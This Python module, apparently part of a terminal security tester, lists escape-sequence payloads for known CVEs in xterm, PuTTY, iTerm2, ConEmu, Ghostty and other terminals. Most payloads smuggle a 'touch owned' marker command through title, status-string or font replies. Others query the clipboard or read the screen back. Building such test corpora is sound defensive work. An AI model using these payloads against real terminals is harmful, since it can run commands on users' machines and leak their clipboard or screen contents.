"""Attacks that make a terminal answer, as if somebody typed."""

from __future__ import annotations

from typing import Final

from .base import BEL, CSI, DCS, DEC, ECMA, ESC, ITERM, KITTY, OSC, ST, XTERM, Attack

REPORTS: Final = (
    Attack("reports the title back as typed keys", f"{OSC}0;touch owned{BEL}{CSI}21t", "CVE-2003-0063 (xterm)"),
    Attack("reports the icon's title back", f"{CSI}20t", "CVE-2003-0064 (dtterm)"),
    Attack("reports the title back, uxterm", f"{OSC}2;;touch owned;{ST}{CSI}21t", "CVE-2003-0065 (uxterm)"),
    Attack("reports the title back, rxvt", f"{OSC}2;touch owned{BEL}{CSI}21t", "CVE-2003-0066 (rxvt)"),
    Attack("reports the title back, aterm", f"{OSC}l;touch owned{BEL}{CSI}21t", "CVE-2003-0067 (aterm)"),
    Attack("reports the title back, Eterm", f"{OSC}0;`touch owned`{BEL}{CSI}21t", "CVE-2003-0068 (Eterm)"),
    Attack("reports the title back, PuTTY", f"{OSC}0;\rtouch owned\r{BEL}{CSI}21t", "CVE-2003-0069 (PuTTY)"),
    Attack("reports the title back, VTE", f"{OSC}2;touch owned{ST}\x9b21t", "CVE-2003-0070 (VTE)"),
    Attack("reports the title back, hanterm", f"{OSC}0;touch owned\x9c{CSI}21t", "CVE-2003-0077 (hanterm)"),
    Attack("reports the icon's name, VTE once more", f"{OSC}1;touch owned{BEL}{CSI}20t", "CVE-2010-2713 (VTE)"),
    Attack("reports the title, ConEmu", f"{OSC}0;touch owned\x08{BEL}{CSI}21t", "CVE-2022-46387 (ConEmu)"),
    Attack("reports the title, ConEmu once more", f"{OSC}2;\x0dtouch owned{ST}{CSI}21t", "CVE-2023-39150 (ConEmu)"),
    Attack("reports the title, SwiftTerm", f"{OSC}2;\ntouch owned{BEL}{CSI}21t", "CVE-2022-23465 (SwiftTerm)"),
    Attack("reports the title, iTerm2", f"{OSC}0;touch owned{ST}{CSI}21;2t", "CVE-2024-38395 (iTerm2)"),
    Attack("reports the title into a tmux session", f"{OSC}0;%exit{ST}{CSI}21t", "CVE-2024-38396 (iTerm2)"),
    Attack("reports the title, Ghostty", f"{OSC}0;touch owned{ST}\x1b[21t", "CVE-2024-56803 (Ghostty)"),
    Attack("reports a status string, xterm", f"{DCS}$q\ntouch owned\n{ST}", "CVE-2008-2383 (xterm)"),
    Attack("reports a status string, iTerm2", f"{DCS}$q\x01touch owned{ST}", "CVE-2022-45872 (iTerm2)"),
    Attack("reports a font's name", f"{OSC}50;i$(touch owned){BEL}{OSC}50;?{BEL}", "CVE-2022-45063 (xterm)"),
    Attack("reports a ReGIS character set", f"{DCS}0pL(A'touch owned')R(L){ST}", "CVE-2023-40359 (xterm)"),
    Attack("reports where the cursor is", f"{CSI}6n", ECMA),
    Attack("reports the status of the device", f"{CSI}5n", ECMA),
    Attack("reports what terminal it is", f"{CSI}c", DEC),
    Attack("reports what terminal it is, secondary", f"{CSI}>c", DEC),
    Attack("reports what terminal it is, tertiary", f"{CSI}=c", DEC),
    Attack("reports the terminal by DECID", f"{ESC}Z", DEC),
    Attack("answers back", "\x05", "ECMA-48, ENQ; PuTTY FAQ A.7.11"),
    Attack("reports the size in pixels", f"{CSI}14t", XTERM),
    Attack("reports the size of the screen", f"{CSI}19t", XTERM),
    Attack("reports the terminal's parameters", f"{CSI}1x", DEC),
    Attack("reports a checksum of what is shown", f"{CSI}1;1;1;1;80;24*y", "xterm, DECRQCRA reads the screen back"),
    Attack("reports modes", f"{CSI}?1049$p", DEC),
    Attack("reports the printer's status", f"{CSI}?15n", DEC),
    Attack("reports the user defined keys", f"{CSI}?25n", DEC),
    Attack("reports the locator", f"{CSI}1'|", DEC),
    Attack("reports termcap entries", f"{DCS}+q544e{ST}", XTERM),
    Attack("reports the version", f"{CSI}>0q", XTERM),
    Attack("reports a colour of the palette", f"{OSC}4;1;?{BEL}", XTERM),
    Attack("reports the colour of the text", f"{OSC}10;?{BEL}", XTERM),
    Attack("reports the colour of the ground", f"{OSC}11;?{ST}", XTERM),
    Attack("reports the clipboard", f"{OSC}52;c;?{BEL}", XTERM),
    Attack("reports a variable of the session", f"{OSC}1337;ReportVariable=c2Vzc2lvbg=={BEL}", ITERM),
    Attack("reports the size of a cell", f"{OSC}1337;ReportCellSize{BEL}", ITERM),
    Attack("reports the keyboard's mode", f"{CSI}?u", KITTY),
)
